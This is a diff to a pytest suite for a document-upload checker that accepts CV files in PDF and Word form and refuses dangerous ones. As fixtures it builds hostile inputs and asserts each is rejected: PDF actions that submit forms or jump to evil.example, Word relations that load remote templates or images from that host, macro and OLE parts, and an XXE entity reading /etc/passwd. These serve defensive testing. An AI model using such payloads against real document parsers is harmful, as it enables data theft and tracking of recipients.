@@ -3,7 +3,6 @@
 import io
 import struct
 import zipfile
-import zlib
 
 import pytest
 from pypdf import PdfReader, PdfWriter
@@ -12,7 +11,8 @@ from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringO
 from app import sniffing
 from app.errors import Invalid
 from app.sniffing import DOCX, PDF, recognise_document
-from tests.factories.documents import docx_bytes, pdf_bytes
+from tests.factories.documents import docx_bytes, pdf_bytes, with_object_streams
+from tests.factories.word import OFFICE, content_types, relations, word_bytes
 
 EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 
@@ -150,6 +150,9 @@ ACTIVE = {
     "form that is sent": lambda w: _root(w, AA=DictionaryObject(
         {NameObject("/WC"): _action("SubmitForm", F=TextStringObject("http://evil.example"))}
     )),
+    "leap into another file": lambda w: _root(
+        w, OpenAction=_action("GoToR", F=TextStringObject("//evil.example/share/x.pdf"))
+    ),
     "xfa": lambda w: _root(
         w, AcroForm=DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})
     ),
@@ -178,66 +181,10 @@ def test_a_script_spelled_with_escapes_is_still_a_script():
 
 
 def test_a_script_inside_a_compressed_object_stream_is_found():
-    writer = PdfWriter()
-    writer.add_blank_page(612, 792)
-    ACTIVE["script by reference"](writer)
-    content = _with_object_streams(writer)
+    content = with_object_streams(pdf_bytes(change=ACTIVE["script by reference"]))
     assert b"/JS" not in content
     assert len(PdfReader(io.BytesIO(content)).xref_objStm) > 2
     assert "scripts" in refusal("cv.pdf", content)
-
-
-def _with_object_streams(writer: PdfWriter) -> bytes:
-    """The same objects packed into one compressed stream, as PDF 1.5 allows."""
-    reader = PdfReader(io.BytesIO(_written(writer)))
-    bodies: dict[int, bytes] = {}
-    for number in sorted(reader.xref[0]):
-        out = io.BytesIO()
-        reader.get_object(number).write_to_stream(out)
-        bodies[number] = out.getvalue()
-    index, packed = "", b""
-    streams = {n: b for n, b in bodies.items() if b"stream" in b}
-    inside = {n: b for n, b in bodies.items() if n not in streams}
-    for number, body in inside.items():
-        index += f"{number} {len(packed)} "
-        packed += body + b"\n"
-    data = zlib.compress(index.encode() + packed)
-    size = max(bodies) + 3
-    holder, table = max(bodies) + 1, max(bodies) + 2
-    out = io.BytesIO()
-    out.write(b"%PDF-1.5\n")
-    offsets: dict[int, int] = {}
-    for number, body in streams.items():
-        offsets[number] = out.tell()
-        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
-    offsets[holder] = out.tell()
-    out.write(
-        b"%d 0 obj\n<</Type/ObjStm/N %d/First %d/Length %d/Filter/FlateDecode>>stream\n"
-        % (holder, len(inside), len(index), len(data))
-    )
-    out.write(data + b"\nendstream\nendobj\n")
-    offsets[table] = out.tell()
-    rows = b""
-    for number in range(size):
-        if number in inside:
-            rows += struct.pack(">BIH", 2, holder, list(inside).index(number))
-        elif number in offsets:
-            rows += struct.pack(">BIH", 1, offsets[number], 0)
-        else:
-            rows += struct.pack(">BIH", 0, 0, 65535)
-    root = reader.trailer.raw_get("/Root").idnum
-    out.write(
-        b"%d 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root %d 0 R/Length %d>>stream\n"
-        % (table, size, root, len(rows))
-    )
-    out.write(rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[table])
-    return out.getvalue()
-
-
-def _written(writer: PdfWriter) -> bytes:
-    out = io.BytesIO()
-    writer.write(out)
-    return out.getvalue()
 
 
 def test_a_pdf_of_countless_objects_is_refused():
@@ -285,6 +232,78 @@ def test_a_member_that_leads_out_of_the_archive_is_refused(member):
 )  # fmt: skip
 def test_a_document_with_macros_or_embedded_files_is_refused(member):
     assert "macros or embedded files" in refusal("cv.docx", docx_bytes({member: "x"}))
+
+
+def test_a_document_as_word_saves_it_is_recognised():
+    assert recognise_document("cv.docx", word_bytes()) == DOCX
+
+
+RELATIONS = "word/_rels/document.xml.rels"
+STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships/"
+
+
+@pytest.mark.parametrize("kind", ["hyperlink", f"{STRICT}hyperlink"])
+def test_a_link_that_a_person_follows_may_lead_anywhere(kind):
+    linked = relations((kind, "https://example.com/portfolio?a=1#b"))
+    assert recognise_document("cv.docx", word_bytes({RELATIONS: linked})) == DOCX
+
+
+@pytest.mark.parametrize("mode", ["External", "external", " External ", "Elsewhere"])
+@pytest.mark.parametrize(
+    ("part", "kind", "target"),
+    [
+        ("word/_rels/settings.xml.rels", "attachedTemplate", "http://evil.example/x.dotm"),
+        ("word/_rels/settings.xml.rels", "attachedTemplate", "file://evil.example/share/x.dotm"),
+        (RELATIONS, "image", "https://evil.example/seen.png"),
+        (RELATIONS, f"{STRICT}frame", "https://evil.example/"),
+        ("WORD/_RELS/FOOTER1.XML.RELS", "subDocument", "https://evil.example/x.docx"),
+        ("_rels/.rels", "officeDocument", "https://evil.example/document.xml"),
+    ],
+)
+def test_a_document_that_loads_something_from_elsewhere_is_refused(part, kind, target, mode):
+    content = word_bytes({part: relations(("styles", "styles.xml"), (kind, target), mode=mode)})
+    assert "from elsewhere" in refusal("cv.docx", content)
+
+
+@pytest.mark.parametrize(
+    "kind",
+    ["aFChunk", f"{STRICT}aFChunk", f" {OFFICE}AFCHUNK\n", "oleObject", "package", "control",
+     "http://schemas.microsoft.com/office/2006/relationships/vbaProject"],
+)  # fmt: skip
+@pytest.mark.parametrize("target", ["plain.xml", "https://evil.example/x"])
+def test_a_part_that_is_another_document_or_program_is_refused_under_any_name(kind, target):
+    content = word_bytes({RELATIONS: relations((kind, target)), "word/plain.xml": "<html/>"})
+    assert "macros or embedded files" in refusal("cv.docx", content)
+
+
+@pytest.mark.parametrize(
+    "media_type",
+    ["application/vnd.ms-word.document.macroEnabled.main+xml",
+     "application/vnd.ms-word.template.MACROENABLEDTemplate.main+xml",
+     "application/vnd.ms-office.vbaProject", "application/vnd.ms-office.activeX+xml",
+     "application/vnd.openxmlformats-officedocument.oleObject"],
+)  # fmt: skip
+def test_what_a_part_is_declared_to_be_counts_and_not_its_name(media_type):
+    declared = content_types([("/word/plain.xml", media_type)])
+    as_default = declared.replace("image/png", media_type)
+    for types in (declared, as_default):
+        content = word_bytes({"[Content_Types].xml": types})
+        assert "macros or embedded files" in refusal("cv.docx", content)
+
+
+@pytest.mark.parametrize("part", ["[Content_Types].xml", "_rels/.rels", RELATIONS])
+@pytest.mark.parametrize(
+    "xml",
+    ["", "<Types", "no XML", "<a/><b/>", "<a>&undeclared;</a>", b"\xff\xfe\x00",
+     '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>', "<!DOCTYPE a><a/>"],
+)  # fmt: skip
+def test_a_document_whose_packaging_cannot_be_read_is_refused(part, xml):
+    assert "Word document is damaged" in refusal("cv.docx", word_bytes({part: xml}))
+
+
+def test_a_document_with_endless_packaging_is_refused_unread():
+    content = word_bytes({RELATIONS: "<" + " " * sniffing.MAX_PACKAGING})
+    assert "unpacks to far more" in refusal("cv.docx", content)
 
 
 def test_a_zip_bomb_is_refused_without_unpacking_it():
